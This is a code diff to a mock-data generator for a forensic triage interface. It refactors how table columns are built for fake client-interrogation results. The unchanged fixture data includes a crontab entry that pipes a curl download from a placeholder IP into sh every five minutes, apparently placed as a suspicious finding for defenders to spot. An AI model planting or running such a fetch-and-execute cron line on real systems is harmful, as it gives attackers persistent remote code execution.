@@ -40,16 +40,17 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
   const failed = flowOf('F.D1CRON0000003', ['Linux.Sys.Crontab'], 'error', NOW - 9000e3, 3, { status: 'the query ran past its time limit of 600 s; raise the limit or narrow the glob', sources: [{ name: 'Linux.Sys.Crontab/CronTabs', rows: 3 }, { name: 'Linux.Sys.Crontab/CronScripts', rows: 0 }] });
   put(failed, 'Linux.Sys.Crontab/CronTabs', { columns: [{ name: 'Minute' }, { name: 'Hour' }, { name: 'Command' }, { name: 'Path' }], rows: [['17', '*', 'cd / && run-parts --report /etc/cron.hourly', '/etc/crontab'], ['25', '6', 'test -x /usr/sbin/anacron', '/etc/crontab'], ['*/5', '*', 'curl -s http://198.51.100.23/j | sh', '/var/spool/cron/crontabs/deploy']] });
   const info = flowOf('F.BN2HP3OMINFO', ['Generic.Client.Info'], 'finished', NOW - 86400e3, 9, { creator: 'InterrogationService', sources: [{ name: 'Generic.Client.Info/BasicInformation', rows: 1 }, { name: 'Generic.Client.Info/Users', rows: 4 }] });
+  const named = (...names) => names.map((name) => ({ name }));
   const interrogation = {
     flow_id: info.flow_id,
     finished_at: info.finished_at,
     tables: [
-      { name: 'Generic.Client.Info/BasicInformation', columns: ['Name', 'BuildTime', 'Version', 'Hostname', 'OS', 'Architecture', 'Platform', 'PlatformVersion', 'KernelVersion', 'Fqdn', 'MACAddresses'], rows: [['peregrine', '2026-11-20T09:12:44Z', '0.1.0', first.hostname, 'linux', 'amd64', 'debian', '13.1', '6.12.48', first.fqdn, first.mac_addresses]] },
-      { name: 'Generic.Client.Info/Users', columns: ['User', 'Uid', 'Gid', 'Homedir', 'Shell'], rows: [['root', 0, 0, '/root', '/bin/bash'], ['deploy', 1000, 1000, '/home/deploy', '/bin/bash'], ['ci', 1001, 1001, '/opt/ci', '/usr/sbin/nologin'], ['www-data', 33, 33, '/var/www', '/usr/sbin/nologin']] },
-      { name: 'Generic.Client.Info/Interfaces', columns: ['Name', 'HardwareAddr', 'MTU', 'Up', 'Addrs'], rows: [['lo', '', 65536, true, ['127.0.0.1/8', '::1/128']], ['eth0', first.mac_addresses[0], 1500, true, first.addresses]] },
+      { name: 'Generic.Client.Info/BasicInformation', columns: named('Name', 'BuildTime', 'Version', 'Hostname', 'OS', 'Architecture', 'Platform', 'PlatformVersion', 'KernelVersion', 'Fqdn', 'MACAddresses'), rows: [['peregrine', '2026-11-20T09:12:44Z', '0.1.0', first.hostname, 'linux', 'amd64', 'debian', '13.1', '6.12.48', first.fqdn, first.mac_addresses]] },
+      { name: 'Generic.Client.Info/Users', columns: named('User', 'Uid', 'Gid', 'Homedir', 'Shell'), rows: [['root', 0, 0, '/root', '/bin/bash'], ['deploy', 1000, 1000, '/home/deploy', '/bin/bash'], ['ci', 1001, 1001, '/opt/ci', '/usr/sbin/nologin'], ['www-data', 33, 33, '/var/www', '/usr/sbin/nologin']] },
+      { name: 'Generic.Client.Info/Interfaces', columns: named('Name', 'HardwareAddr', 'MTU', 'Up', 'Addrs'), rows: [['lo', '', 65536, true, ['127.0.0.1/8', '::1/128']], ['eth0', first.mac_addresses[0], 1500, true, first.addresses]] },
     ],
   };
-  info.sources.forEach((source, index) => put(info, source.name, { columns: interrogation.tables[index].columns.map((name) => ({ name })), rows: interrogation.tables[index].rows }));
+  info.sources.forEach((source, index) => put(info, source.name, interrogation.tables[index]));
   const secret = flowOf('F.D1SECRET00004', ['Generic.Network.Share'], 'finished', NOW - 86400e3 * 40, 0, { request: { artifacts: [{ artifact: 'Generic.Network.Share', parameters: { Share: '//files/cases', Password: 'XXXXX' } }] } });
   put(secret, 'Generic.Network.Share', { columns: [], rows: [] });
   state.flows.push(pstree, finder, failed, info, secret);
